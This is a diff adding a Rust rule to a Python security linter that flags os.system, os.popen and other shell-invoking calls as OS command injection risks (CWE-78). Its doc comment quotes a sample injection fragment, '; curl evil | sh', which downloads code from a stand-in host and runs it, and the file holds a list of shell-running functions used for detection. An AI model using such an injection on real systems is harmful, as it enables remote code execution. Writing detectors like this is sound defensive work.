@@ -1,0 +1,71 @@
+use crate::call_pattern::{Arg, CallPattern, Cond};
+use crate::declare_rule;
+use crate::rule::Category;
+use vigil_report::{Confidence, Severity};
+
+/// Functions that always hand their command to a shell.
+const SHELL_FUNCTIONS: &[&str] = &[
+    "os.system",
+    "os.popen",
+    "os.popen2",
+    "os.popen3",
+    "os.popen4",
+    "popen2.popen2",
+    "popen2.popen3",
+    "popen2.popen4",
+    "popen2.Popen3",
+    "popen2.Popen4",
+    "commands.getoutput",
+    "commands.getstatusoutput",
+    "posix.system",
+    "nt.system",
+    "platform.popen",
+];
+
+declare_rule! {
+    /// ## What it does
+    /// Flags `os.system`, `os.popen` and the other functions that always run
+    /// their command through a shell, when the command is built at run time.
+    ///
+    /// ## Why is this bad?
+    /// These functions pass the whole string to `/bin/sh -c`. Text from
+    /// outside that lands in it can end the intended command and start
+    /// another (`; curl evil | sh`): OS command injection. There is no safe
+    /// way to call them with untrusted data.
+    ///
+    /// ## Example
+    /// ```python
+    /// os.system("ping -c 1 " + host)
+    /// ```
+    ///
+    /// ## Use instead
+    /// ```python
+    /// subprocess.run(["ping", "-c", "1", host], check=True)
+    /// ```
+    ///
+    /// ## References
+    /// - CWE-78: Improper Neutralization of Special Elements used in an OS Command
+    pub static RULE = {
+        name: "os-shell-command",
+        category: Category::Injection,
+        cwe: &[78],
+        severity: Severity::High,
+        confidence: Confidence::High,
+        bandit: &["B605"],
+        ruff: &["S605"],
+        help: "Use `subprocess.run([...])` with a list of arguments and no shell; never build a shell command from data.",
+        calls: &[
+            CallPattern::new(
+                SHELL_FUNCTIONS,
+                &[Cond::NonLiteral(Arg::at(0, "cmd"))],
+                "`{callee}` runs a command built at run time through a shell: shell metacharacters in it are executed",
+            ),
+            CallPattern::new(
+                SHELL_FUNCTIONS,
+                &[Cond::Literal(Arg::at(0, "cmd"))],
+                "`{callee}` runs a fixed command through a shell",
+            )
+            .audit(Severity::Low),
+        ],
+    };
+}
